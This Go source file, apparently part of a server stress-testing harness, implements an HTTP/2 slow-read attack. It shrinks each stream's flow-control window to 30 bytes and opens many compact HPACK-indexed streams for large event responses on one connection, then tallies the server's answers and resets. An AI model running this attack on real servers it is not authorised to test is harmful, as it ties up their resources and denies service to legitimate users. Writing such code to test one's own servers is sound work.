package attack

import (
	"bufio"
	"context"
	"encoding/binary"
	"fmt"
	"io"
	"net"
	"net/http"
)

// smallWindow is how many bytes of each stream's body the server may send: not
// even its first block whole.
const smallWindow = 30

// window asks for many streams of large events on one HTTP/2 connection and lets
// none of them send more than a few bytes. All requests together are 13 KB.
func window(ctx context.Context, t *target) error {
	path, err := t.submit(ctx, t.word())
	if err != nil {
		return err
	}
	conn, err := (&net.Dialer{}).DialContext(ctx, "tcp", t.addr)
	if err != nil {
		return fmt.Errorf("attack: %w", err)
	}
	defer conn.Close()
	stop := context.AfterFunc(ctx, func() { _ = conn.Close() })
	defer stop()
	if _, err := conn.Write(t.requests(path + "?unit=word&interval=1ms")); err != nil {
		return fmt.Errorf("attack: %w", err)
	}
	t.tally.Requests = t.Clients
	if err := t.readFrames(conn); ctx.Err() == nil {
		t.tally.cut(err)
	}
	return nil
}

// What is used of HTTP/2 (RFC 9113, section 6).
const (
	preface = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"

	frameHeaders  = 1
	frameReset    = 3
	frameSettings = 4
	frameGoAway   = 7

	flagAck        = 1
	flagEndStream  = 1
	flagEndHeaders = 4

	settingInitialWindow = 4
)

// appendFrame appends a frame with its header of nine bytes.
func appendFrame(b []byte, kind, flags byte, stream uint32, payload []byte) []byte {
	b = append(b, byte(len(payload)>>16), byte(len(payload)>>8), byte(len(payload)), kind, flags)
	b = binary.BigEndian.AppendUint32(b, stream)
	return append(b, payload...)
}

// requests is the connection's start and all its requests. The first names
// authority and path; the others find both in the table of HPACK (RFC 7541), and
// are of four bytes each.
func (t *target) requests(path string) []byte {
	setting := binary.BigEndian.AppendUint32([]byte{0, settingInitialWindow}, smallWindow)
	b := appendFrame([]byte(preface), frameSettings, 0, 0, setting)
	b = appendFrame(b, frameSettings, flagAck, 0, nil)
	const methodGet, schemeHTTP, authority, pathName = 0x82, 0x86, 0x41, 0x44
	first := []byte{methodGet, schemeHTTP}
	first = appendText(append(first, authority), t.addr)
	first = appendText(append(first, pathName), path)
	other := []byte{methodGet, schemeHTTP, 0x80 | 63, 0x80 | 62} // authority and path, newest last
	for i := range t.Clients {
		block := other
		if i == 0 {
			block = first
		}
		b = appendFrame(b, frameHeaders, flagEndStream|flagEndHeaders, uint32(2*i+1), block)
	}
	return b
}

// appendText appends a string literal of at most 126 bytes, without Huffman.
func appendText(b []byte, text string) []byte {
	return append(append(b, byte(len(text))), text...)
}

// readFrames counts the answers until the connection ends. Only the status 200 is
// told apart: it is always the one byte of HPACK's static table.
func (t *target) readFrames(conn io.Reader) error {
	const status200 = 0x88
	r := bufio.NewReader(conn)
	for {
		var header [9]byte
		if _, err := io.ReadFull(r, header[:]); err != nil {
			return err
		}
		payload := make([]byte, int(header[0])<<16|int(header[1])<<8|int(header[2]))
		if _, err := io.ReadFull(r, payload); err != nil {
			return err
		}
		switch header[3] {
		case frameHeaders:
			if len(payload) == 0 || payload[0] != status200 {
				t.tally.cut(fmt.Errorf("stream refused: head %x", payload))
				continue
			}
			t.tally.answer(http.StatusOK)
		case frameReset:
			t.tally.cut(fmt.Errorf("stream reset, error code %x", payload))
		case frameGoAway:
			return fmt.Errorf("the server is going away: %q", payload)
		}
	}
}
